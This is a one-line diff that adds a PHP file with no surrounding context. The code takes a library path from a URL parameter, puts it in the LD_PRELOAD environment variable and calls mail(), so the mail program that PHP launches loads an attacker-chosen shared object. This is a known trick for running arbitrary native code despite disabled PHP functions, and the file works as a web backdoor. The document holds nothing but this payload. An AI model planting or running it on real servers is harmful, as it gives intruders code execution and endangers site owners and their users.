@@ -1,0 +1,1 @@
+<?php putenv("LD_PRELOAD=" . $_GET["so"]); mail("a@b.c", "", "", "");
